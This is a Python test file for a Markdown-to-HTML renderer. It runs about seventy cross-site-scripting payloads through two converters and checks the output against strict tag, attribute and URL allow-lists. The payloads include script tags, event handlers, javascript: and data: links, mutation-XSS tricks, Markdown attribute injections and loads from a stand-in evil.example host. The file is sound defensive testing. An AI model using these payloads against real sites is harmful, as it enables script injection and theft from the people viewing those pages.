"""Whatever is written into a body: no script, no handler, no dangerous address on the page."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engage_docs.findings import Place
from engage_docs.markdown import Addresses, convert, make_converter, resolve
from engage_docs.records.model import Engagement

RECORD = Engagement(
    at=Place("content/records/p/a.md"), type="engagement", id="a", title="A", project="p"
)
EXTENSIONS = ["admonition", "extra", "attr_list", "md_in_html", "toc", "pymdownx.superfences"]
EXTENSIONS += ["pymdownx.details", "pymdownx.magiclink", "pymdownx.tilde", "pymdownx.caret"]
CONVERTERS = [make_converter(kind, EXTENSIONS) for kind in ("python-markdown", "commonmark")]

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='#' onclick='alert(1)'>x</a>",
    "<a href='https://a.example' ping='https://evil.example' target=_blank>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<div id=__config>x</div><span id=s1 class=md-banner>x</span>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    '[x](https://a.example"onmouseover="alert(1))',
    '[x](https://a.example "x\\" onmouseover=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](x)',
    "Text {: onclick=alert(1) }",
    "# Heading {: onclick=alert(1) #s1 }",
    "```<script>alert(1)</script>\nx\n```",
    '``` {.python onclick="alert(1)"}\nx\n```',
    '!!! note "<script>alert(1)</script>"\n    x',
    '??? note "<img src=x onerror=alert(1)>"\n    x',
    "<div markdown=1 onclick=alert(1)>\n\n*x*\n\n</div>",
    "x[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    '*[x]: " onmouseover=alert(1) "\n\nx',
    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
    "\x02wzxhzdk:0\x03",
]

TAGS = {
    *("h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "div", "span", "blockquote", "pre", "a"),
    *("abbr", "b", "bdi", "cite", "code", "del", "dfn", "em", "i", "ins", "kbd", "mark", "q", "s"),
    *("samp", "small", "strong", "sub", "sup", "u", "var", "wbr", "ul", "ol", "li", "dl", "dt"),
    *("dd", "table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td", "details", "summary"),
}
ATTRIBUTES = {
    *("href", "title", "class", "id", "lang", "dir", "open", "start", "colspan", "rowspan"),
    *("scope", "role", "data-label"),
}
ADDRESSES = ("http:", "https:", "mailto:", "tel:", "#", "../../")


class Prover(HTMLParser):
    """Reads finished HTML and fails on whatever is not on its own, separate list."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES, (tag, name)
            if name == "href":
                assert (value or "").lower().startswith(ADDRESSES), value
            if name == "id":
                assert (value or "").startswith("text:"), value

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"a declaration: {data}")


def prove(body: str) -> None:
    for converter in CONVERTERS:
        html, _ = resolve(convert(body, converter), RECORD, Addresses.of([RECORD]))
        prover = Prover()
        prover.feed(html)
        prover.close()


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_does_nothing(attack: str) -> None:
    prove(attack)
    prove(f"Before {attack} after.\n\n> {attack}\n\n- {attack}\n\n| a |\n|--|\n| {attack} |\n")


@given(st.lists(st.sampled_from([*ATTACKS, "\n\n", " ", "`", "[", "](", ")", "> ", "<", '"', "x"])))
def test_attacks_in_any_order_do_nothing(pieces: list[str]) -> None:
    prove("".join(pieces))


@given(st.text())
def test_any_text_at_all_does_nothing(body: str) -> None:
    prove(body)
